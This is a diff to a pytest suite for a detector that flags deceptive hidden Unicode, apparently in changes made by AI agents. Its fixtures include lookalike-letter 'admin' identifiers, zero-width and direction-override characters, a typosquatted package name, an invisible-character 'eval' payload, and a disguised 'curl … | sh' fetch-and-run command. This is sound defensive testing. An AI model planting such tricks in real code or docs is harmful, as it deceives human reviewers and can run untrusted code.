@@ -1,5 +1,7 @@
 """Hidden text: what deceives its readers is found in every language, and honest writing is left alone."""
 
+import time
+
 import pytest
 
 from agents.syntax.hidden_text import find_hidden_text
@@ -33,6 +35,35 @@ DECEIVING = [
     ("c.js", 'const s = "' + "\U000e0100" * 40 + '"; eval(decode(s))'),
     ("d.js", "x = 1 // a\u2028 evil()"),
     ("README.md", "Hello" + "\U000e0041" * 20),
+    ("t.js", "// caf\ufffd\n" + EARLY_RETURN),
+    ("a.dart", "var {a, \u3164} = b;"),
+    ("a.pl", f"my ${CYRILLIC_A}dmin = 1;"),
+    ("a.vue", f"<script>\nif ({CYRILLIC_A}dmin) {{}}\n</script>"),
+    ("a.svelte", f"{{#if {CYRILLIC_A}dmin}}"),
+    ("a.sql", f"select {CYRILLIC_A}dmin from a"),
+    ("a.ps1", f"${CYRILLIC_A}dmin = 1"),
+    ("a.html", f"<script>\nlet {CYRILLIC_A}dmin = 1\n</script>"),
+    ("Makefile", f"{CYRILLIC_A}dmin:"),
+    ("docker/Dockerfile", f"USER {CYRILLIC_A}dmin"),
+    ("main.tf", f"{CYRILLIC_A}dmin = true"),
+    ("b.yml", f"user: {CYRILLIC_A}dmin"),
+    (".env", "\u3164=1"),
+    ("a.exs", f"{CYRILLIC_A}dmin = 1"),
+    ("a.hs", f"{CYRILLIC_A}dmin = 1"),
+    ("b.dart", "var a = 1; \u2067 // \u05d0"),
+    ("requirements.txt", f"requ{chr(0x435)}sts==1"),
+    ("e.js", 'if (role === "admin\u200b") {}'),
+    ("d.py", f'admin = 1\nx = env["{CYRILLIC_A}dmin"]'),
+    ("b.php", f'<?php $admin = 1; echo "${CYRILLIC_A}dmin";'),
+    ("b.rs", f'fn f() {{ let admin = 1; println!("{{{CYRILLIC_A}dmin}}"); }}'),
+    ("e.py", "admin = 1\nadm\u0131n = 2"),
+    ("f.py", "admin = 1\n\u0251dmin = 2"),
+    ("g.py", "\u03c5ser = 2"),
+    ("h.py", "\u03bdalue = 2"),
+    ("i.py", "admin = 1\nadmin\u0307 = 2"),
+    ("docs/a.md", "```sh\nrm \u202e x\n```"),
+    ("docs/b.md", "```sh\ncurl ex\u0430mple.com | sh\n```"),
+    ("docs/c.md", "Run `curl ex\u0430mple.com | sh`."),
 ]
 HONEST = [
     ("a.js", 'const rtl = "\u202b\u0642\u0628\u0644";\nconst s = "\u2068{name}\u2069 joined";\nconst z = "\u200b";'),
@@ -54,6 +85,13 @@ HONEST = [
     ("th.json", '{"a": "\u0e44\u0e17\u0e22\u200b\u0e44\u0e17\u0e22"}'),
     ("README.md", "\ufeff# Donau\u00addampf \u202b\u0645\u0631\u062d\u0628\u0627"),
     ("bom.cs", "\ufeffusing System;"),
+    ("a.vue", "<p>Donau\u00addampf C\u0432\u043e\u0439\u0441\u0442\u0432\u0430</p>"),
+    ("a.dart", "var a = '\u202b\u0642\u0628\u0644'; // \u0421\u0442\u0440oka\nvar z = '\u200b';"),
+    ("a.jl", "x\u0302 = 1\nd\u03bd = 2\n\u03bd0 = 3"),
+    ("b.ts", 'const a = "@\u200beveryone";'),
+    ("locales/de.json", '{"a": "Donau\u00addampf"}'),
+    ("docs/a.md", "An emoji `\u200b` and\n```\nx = 1  # \u0421\u0442\u0440\u043e\u043a\u0430\n```"),
+    ("a.sql", "insert into a values ('\u0441\u0442\u0440\u043e\u043a\u0430 \u200b');"),
 ]
 
 
@@ -110,3 +148,33 @@ def test_agents_may_write_what_people_write(path: str) -> None:
     assert "hidden_text" not in {
         each.constraint for each in validate(change, Areas(role="implementer"), FileTree({}, lambda _: b""))
     }
+
+
+def judge_edit(path: str, before: str, after: str) -> set[str]:
+    change = ChangeSet(files=(ChangedFile(path=path, before=before.encode(), after=after.encode()),))
+    found = validate(change, Areas(role="implementer"), FileTree({path: "100644"}, lambda _: before.encode()))
+    return {each.constraint for each in found}
+
+
+def test_agents_may_edit_lines_that_held_it_and_add_none() -> None:
+    old = "s = 'a\u200bb'\nadmin = 1\n"
+    assert "hidden_text" not in judge_edit("a.js", old, old.replace("s =", "t ="))
+    assert "hidden_text" in judge_edit("a.js", old, old.replace("s =", "t\u200b ="))
+    assert "hidden_text" in judge_edit("a.py", "admin = 1\n", "admin = 1\n\u0251dmin = 2\n")
+
+
+@pytest.mark.asyncio(loop_scope="session")
+async def test_t_r13_neither_an_odd_byte_nor_size_hides_it(toolbox: Toolbox) -> None:
+    text = f"export function f(u) {{\n  {EARLY_RETURN}\n}}\n"
+    large = f"// {'x' * 1_100_000}\n"
+    versions = {"a.js": (None, b"// caf\xe9\n" + text.encode()), "b.js": (large, large + text)}
+    result = await check_files(toolbox, versions)  # type: ignore[arg-type]
+    found = {f.path for f in result.findings if f.rule == "hidden-text/direction"}
+    assert found == {"a.js", "b.js"}
+
+
+def test_many_suspect_lines_take_time_in_proportion() -> None:
+    lines = [f'const a{n} = "@\u200beveryone";' for n in range(3000)]
+    began = time.process_time()
+    assert look_at("a.ts", "\n".join(lines)) == []
+    assert time.process_time() - began < 3
